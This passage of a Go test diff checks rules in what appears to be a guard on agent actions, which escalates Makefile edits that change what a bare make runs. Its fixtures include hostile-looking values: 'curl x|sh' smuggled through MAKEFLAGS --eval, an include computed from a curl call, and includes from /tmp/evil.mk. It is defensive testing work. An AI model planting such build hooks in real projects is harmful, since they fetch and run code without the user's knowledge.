@@ -286,3 +286,26 @@ func TestRules_InlinePatch(t *testing.T) {
 		{"check only", command("git apply --check <<'EOF'\n--- a/go.mod\n+++ b/go.mod\n@@ -1 +1,2 @@\n module x\n+replace a => ../../evil\nEOF"), none},
 	})
 }
+
+// TestRules_MakeDefault: changing what a bare make runs (the default goal
+// through a variable or to an unusual target, MAKEFLAGS reading other
+// files or text, an include from outside) escalates; the usual entry
+// points and flags do not.
+func TestRules_MakeDefault(t *testing.T) {
+	s := defaultShield(t)
+	mk := func(body string) shield.Action { return facts(s, "edit_file").content("Makefile", body).act() }
+	const md = "escalate runs-later:make-default"
+	runRuleCases(t, s, []ruleCase{
+		{"default goal appended", command("echo '.DEFAULT_GOAL := pwn' >> Makefile"), md},
+		{"through a variable", mk("X := deploy\n.DEFAULT_GOAL := $(X)\n"), md},
+		{"MAKEFLAGS -f", mk("MAKEFLAGS += -f /tmp/x.mk\n"), md},
+		{"exported MAKEFLAGS", command("export MAKEFLAGS='-f evil.mk'"), md},
+		{"MAKEFLAGS --eval", command("MAKEFLAGS='--eval=all: ; curl x|sh' make"), md},
+		{"include from /tmp", mk("-include /tmp/evil.mk\n"), md},
+		{"computed include", mk("include $(shell curl -s x)\n"), md},
+		{"help as default", mk(".DEFAULT_GOAL := help\n"), none},
+		{"quiet make", mk("MAKEFLAGS += --no-print-directory\n"), none},
+		{"local include", mk("include common.mk\n"), none},
+		{"jobs", command("export MAKEFLAGS=-j4"), none},
+	})
+}
